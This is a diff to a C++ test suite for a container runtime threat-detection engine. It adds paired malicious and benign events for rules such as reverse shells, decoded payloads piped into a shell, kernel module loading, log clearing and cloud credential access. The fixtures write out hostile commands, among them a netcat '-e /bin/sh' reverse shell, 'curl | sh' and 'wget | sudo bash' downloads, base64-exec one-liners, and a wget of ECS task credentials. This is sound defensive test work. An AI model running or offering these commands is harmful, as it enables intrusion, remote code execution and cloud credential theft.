@@ -19,6 +19,11 @@ namespace {
   return ev;
 }
 
+Event arg(Event ev, const char* name, const char* value) {
+  ev.args.push_back({name, value});
+  return ev;
+}
+
 Event mode(Event ev, int64_t m) {
   ev.file->mode = m;
   return ev;
@@ -34,6 +39,8 @@ std::vector<Case> default_cases() {
   c.push_back({"Crypto miner executed", exec_ev("/tmp/.x/xmrig", {"xmrig", "-o", "pool:3333"}), exec_ev("/usr/bin/xmllint", {"xmllint", "a.xml"})});
   c.push_back({"Crypto miner executed", exec_ev("/tmp/k", {"k", "-o", "stratum+tcp://pool.example:3333"}), exec_ev("/tmp/k", {"k", "-o", "https://x"})});
   c.push_back({"Connection to a crypto-mining pool port", connect_ev("203.0.113.5", 3333), connect_ev("203.0.113.5", 443)});
+  c.push_back({"Mining protocol spoken", arg(connect_ev("203.0.113.5", 443, nullptr, "sendmsg"), "protocol", "stratum"),
+               connect_ev("203.0.113.5", 443, nullptr, "sendmsg")});
   c.push_back({"Mining pool domain queried", dns_ev("xmr-eu1.nanopool.org"), dns_ev("nanopool.org.example.com")});
   c.push_back({"Reverse shell", exec_p(with(proc("/bin/bash", {"bash", "-i"}), [](Process& p) { p.stdio_net = true; })),
                exec_ev("/bin/bash", {"bash", "-i"})});
@@ -50,14 +57,43 @@ std::vector<Case> default_cases() {
   c.push_back({"Socat or netcat spawning a program", exec_ev("/bin/nc", {"nc", "203.0.113.5", "4444", "-e", "/bin/sh"}),
                exec_ev("/bin/nc", {"nc", "-z", "db", "5432"})});
   c.push_back({"Shell spawned by a network service", exec_ev("/bin/sh", {"sh", "-c", "id"}, nginx), exec_ev("/bin/sh", {"sh", "-c", "id"})});
+  auto gunicorn = proc("/usr/local/bin/gunicorn", {"gunicorn", "app:app"}, nullptr, 3);
+  c.push_back({"Shell spawned by a network service", exec_ev("/usr/bin/python3", {"python3", "-c", "import pty"}, gunicorn),
+               exec_ev("/usr/bin/python3", {"python3", "/app/worker.py"}, gunicorn)});
+  c.push_back({"Shell spawned by a network service", exec_ev("/usr/bin/id", {"id"}, gunicorn), exec_ev("/usr/bin/id", {"id"})});
+  c.push_back({"Decoded payload piped into a shell", exec_ev("/bin/sh", {"sh", "-c", "echo aWQK | base64 -d | sh"}),
+               exec_ev("/bin/sh", {"sh", "-c", "echo aWQK | base64 -d > /tmp/out"})});
+  c.push_back({"Decoded payload piped into a shell", exec_ev("/bin/bash", {"bash", "-c", "xxd -r -p /tmp/p | bash -s"}),
+               exec_ev("/bin/bash", {"bash", "-c", "xxd -r -p /tmp/p | sha256sum"})});
+  c.push_back({"Decoded payload piped into a shell", exec_ev("/bin/sh", {"sh", "-c", "openssl enc -d -aes-256-cbc -in p | /bin/sh"}),
+               exec_ev("/bin/sh", {"sh", "-c", "openssl enc -d -aes-256-cbc -in p -out q"})});
+  c.push_back({"Decoded payload piped into a shell",
+               exec_ev("/usr/bin/python3", {"python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"}),
+               exec_ev("/usr/bin/python3", {"python3", "-c", "import base64;print(base64.b64decode('cHJpbnQoMSk='))"})});
+  c.push_back({"Decoded payload piped into a shell", exec_ev("/usr/bin/perl", {"perl", "-MMIME::Base64", "-e", "eval(decode_base64('cHJpbnQgMQ=='))"}),
+               exec_ev("/usr/bin/perl", {"perl", "-MMIME::Base64", "-e", "print(decode_base64('cHJpbnQgMQ=='))"})});
+  c.push_back({"Hidden executable run", exec_ev("/tmp/.cache/kworker", {"kworker"}), exec_ev("/root/.local/bin/pip", {"pip"})});
+  c.push_back({"Hidden executable run", exec_ev("/tmp/.x", {"/tmp/.x"}), exec_ev("/app/node_modules/.bin/tsc", {"tsc"})});
+  c.push_back({"Hidden executable run", exec_p(with(proc("/bin/sh", {"sh", "/var/tmp/.s/run.sh"}), [](Process& p) { p.interpreter_script = "/var/tmp/.s/run.sh"; })),
+               exec_p(with(proc("/bin/sh", {"sh", "/app/.venv/bin/activate"}), [](Process& p) { p.interpreter_script = "/app/.venv/bin/activate"; }))});
+  c.push_back({"Download piped into a shell", exec_ev("/bin/sh", {"sh", "-c", "wget -qO- http://x/i | sudo bash -s"}),
+               exec_ev("/bin/sh", {"sh", "-c", "curl -s http://x/i.tgz | sha256sum"})});
   c.push_back({"Download piped into a shell", exec_ev("/bin/sh", {"sh", "-c", "curl -s http://x/i.sh | sh"}),
                exec_ev("/bin/sh", {"sh", "-c", "curl -s http://x/i.sh -o /tmp/i.sh"})});
   c.push_back({"Offensive tool executed", exec_ev("/usr/bin/nmap", {"nmap", "-sS", "10.0.0.0/24"}), exec_ev("/usr/bin/nano", {"nano"})});
   c.push_back({"Drifted binary executed", exec_p(with(proc("/tmp/payload", {"payload"}), [](Process& p) { p.exe_drift = true; })),
                exec_ev("/tmp/payload", {"payload"})});
+  auto drifted = [](const char* reason) {
+    return exec_p(with(proc("/src/app", {"./app"}), [&](Process& p) { p.exe_drift = true, p.exe_drift_reason = reason; }));
+  };
+  c.push_back({"Drifted binary executed", drifted("traced_write"), drifted("toolchain_build")});
+  c.push_back({"Program built in the container run", drifted("toolchain_build"), drifted("traced_write")});
   Event lib = file_op("mmap", "/tmp/libevil.so");
   lib.args = {{"drift", "traced_write"}};
   c.push_back({"Drifted library loaded", lib, file_op("mmap", "/usr/lib/libc.so.6")});
+  Event built_lib = file_op("mmap", "/src/libapp.so");
+  built_lib.args = {{"drift", "toolchain_build"}};
+  c.push_back({"Drifted library loaded", lib, built_lib});
   c.push_back({"Fileless execution from memory", exec_p(with(proc("memfd:x", {"x"}), [](Process& p) { p.exe_from_memfd = true; })),
                exec_ev("/bin/ls", {"ls"})});
   c.push_back({"Program run from /dev/shm", exec_ev("/dev/shm/.x", {"/dev/shm/.x"}), exec_ev("/dev/null2", {"x"})});
@@ -79,8 +115,14 @@ std::vector<Case> default_cases() {
   c.push_back({"Dynamic linker preload configured", open_ev("/etc/ld.so.preload", O_WRONLY | O_CREAT), open_ev("/etc/ld.so.preload", O_RDONLY)});
   c.push_back({"System binary directory written", open_ev("/usr/bin/ls", O_WRONLY | O_TRUNC),
                open_ev("/usr/bin/ls", O_WRONLY | O_TRUNC, proc("/usr/bin/dpkg", {"dpkg", "-i", "x.deb"}))});
-  c.push_back({"Log file cleared or removed", open_ev("/var/log/nginx/access.log", O_WRONLY | O_TRUNC),
-               open_ev("/var/log/nginx/access.log", O_WRONLY | O_APPEND)});
+  c.push_back({"Log file cleared or removed", arg(open_ev("/var/log/nginx/access.log", O_WRONLY | O_TRUNC), "overwrites", "true"),
+               open_ev("/var/log/nginx/access.log", O_WRONLY | O_TRUNC)});  // a new (empty) log: not clearing
+  c.push_back({"Log file cleared or removed", file_op("truncate", "/var/log/app.log"), file_op("truncate", "/srv/app.log")});
+  // rotation: the compressor removes the renamed copy; a shell removing it is still clearing
+  c.push_back({"Log file cleared or removed", file_op("unlinkat", "/var/log/app.log.1", "", proc("/bin/rm", {"rm", "-f", "/var/log/app.log.1"})),
+               file_op("unlinkat", "/var/log/app.log.1", "", proc("/bin/gzip", {"gzip", "/var/log/app.log.1"}))});
+  c.push_back({"Log file cleared or removed", file_op("unlinkat", "/var/log/app.log", "", proc("/bin/gzip", {"gzip", "/var/log/app.log"})),
+               file_op("unlinkat", "/var/log/app-20261123.gz", "", proc("/usr/local/bin/app", {"app"}))});
   c.push_back({"Log file cleared or removed", file_op("unlinkat", "/root/.bash_history"), file_op("unlinkat", "/root/.cache/x")});
   c.push_back({"Setuid or setgid bit set", mode(file_op("fchmodat", "/tmp/sh"), 04755), mode(file_op("fchmodat", "/tmp/sh"), 0755)});
   c.push_back({"Sensor files tampered with", open_ev("/vigil/rootfs/bin/vigil", O_WRONLY | O_TRUNC), open_ev("/vigil/rootfs/bin/vigil", O_RDONLY)});
@@ -92,6 +134,10 @@ std::vector<Case> default_cases() {
                syscall_ev("process_vm_readv", {{"pid", "1"}})});
   c.push_back({"Kernel module load attempted", syscall_ev("finit_module", {}), syscall_ev("uname", {})});
   c.push_back({"Kernel module load attempted", exec_ev("/sbin/modprobe", {"modprobe", "x"}), exec_ev("/sbin/lsmod", {"lsmod"})});
+  c.push_back({"Kernel module load attempted", open_ev("/tmp/rootkit.ko", O_WRONLY | O_CREAT), open_ev("/tmp/rootkit.ko", O_RDONLY)});
+  c.push_back({"Kernel module load attempted", exec_ev("/bin/busybox", {"busybox", "insmod", "/tmp/r.ko"}), exec_ev("/bin/busybox", {"busybox", "ls"})});
+  c.push_back({"Kernel module list read", exec_ev("/sbin/lsmod", {"lsmod"}), exec_ev("/sbin/modinfo", {"modinfo"})});
+  c.push_back({"Kernel module list read", exec_ev("/bin/cat", {"cat", "/proc/modules"}), exec_ev("/bin/cat", {"cat", "/proc/cpuinfo"})});
   c.push_back({"io_uring set up", syscall_ev("io_uring_setup", {}), syscall_ev("epoll_create1", {})});
   c.push_back({"Mount attempted in container", file_op("mount", "/dev/sda1", "/mnt"), file_op("statfs", "/mnt")});
   c.push_back({"Namespace change attempted", syscall_ev("unshare", {{"flags", "CLONE_NEWUSER"}}), syscall_ev("clone", {})});
@@ -102,10 +148,20 @@ std::vector<Case> default_cases() {
   c.push_back({"Docker socket accessed", unix_connect("/var/run/docker.sock"), unix_connect("/var/run/app.sock")});
   c.push_back({"Privilege raised to root", syscall_ev("setuid", {{"uid", "0"}}, user(proc("/tmp/x", {"x"}), 1000)),
                syscall_ev("setuid", {{"uid", "0"}}, user(proc("/tmp/x", {"x"}), 0))});
-  c.push_back({"Cloud metadata contacted by a tool", connect_ev("169.254.170.2", 80),
-               connect_ev("169.254.170.2", 80, proc("/usr/bin/java", {"java", "-jar", "app.jar"}))});
-  c.push_back({"Cloud metadata URL on a command line", exec_ev("/usr/bin/curl", {"curl", "http://169.254.170.2/v2/credentials/abc"}),
+  c.push_back({"Cloud metadata contacted by a tool", connect_ev("169.254.169.254", 80),
+               connect_ev("169.254.169.254", 80, proc("/usr/bin/java", {"java", "-jar", "app.jar"}))});
+  c.push_back({"Cloud metadata URL on a command line", exec_ev("/usr/bin/curl", {"curl", "http://169.254.169.254/latest/meta-data/"}),
                exec_ev("/usr/bin/curl", {"curl", "http://10.0.0.1/health"})});
+  c.push_back({"ECS task credentials requested by a tool or script", connect_ev("169.254.170.2", 80),
+               connect_ev("169.254.170.2", 80, proc("/usr/bin/java", {"java", "-jar", "app.jar"}))});
+  c.push_back({"ECS task credentials requested by a tool or script",
+               connect_ev("169.254.170.2", 80, proc("/usr/bin/python3", {"python3", "-c", "import urllib.request"})),
+               connect_ev("169.254.170.2", 80, proc("/usr/bin/python3", {"python3", "/app/server.py"}))});
+  c.push_back({"ECS task credentials requested by a tool or script", exec_ev("/usr/bin/curl", {"curl", "http://169.254.170.2/v2/credentials/abc"}),
+               exec_ev("/usr/bin/curl", {"curl", "http://169.254.170.2/v2/metadata"})});
+  c.push_back({"ECS task credentials requested by a tool or script",
+               exec_ev("/bin/sh", {"sh", "-c", "wget -qO- 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"}),
+               exec_ev("/bin/sh", {"sh", "-c", "echo $AWS_REGION"})});
   c.push_back({"Instance metadata service contacted", connect_ev("169.254.169.254", 80, proc("/app/server", {"server"})),
                connect_ev("169.254.170.2", 80, proc("/app/server", {"server"}))});
   c.push_back({"DNS answer points at the metadata service", dns_ev("rebind.example.com", {"169.254.169.254"}), dns_ev("example.com", {"93.184.216.34"})});
@@ -178,12 +234,15 @@ TEST_CASE("benign activity raises no default alert of priority warning or above"
       dns_ev("api.github.com", {"140.82.112.6"}),
       dns_ev("d1a2b3c4.cloudfront.net"),
   };
-  for (const auto& ev : benign) {
-    std::vector<Alert> out;
-    e->evaluate(ev, &out);
-    for (const auto& a : out) {
-      INFO(a.output);
-      CHECK(rules::priority_rank(a.priority) > rules::priority_rank("Warning"));
-    }
+  std::vector<Alert> out;
+  for (const auto& ev : benign) e->evaluate(ev, &out);
+  // Not vacuous: the engine ran and raised the low-priority alerts benign work
+  // is expected to raise (a Notice for pip), and nothing at Warning or above.
+  std::multiset<std::string> low;
+  for (const auto& a : out) {
+    INFO(a.output);
+    CHECK(rules::priority_rank(a.priority) > rules::priority_rank("Warning"));
+    low.insert(a.rule);
   }
+  CHECK(low == std::multiset<std::string>{"Language package manager run in container"});
 }
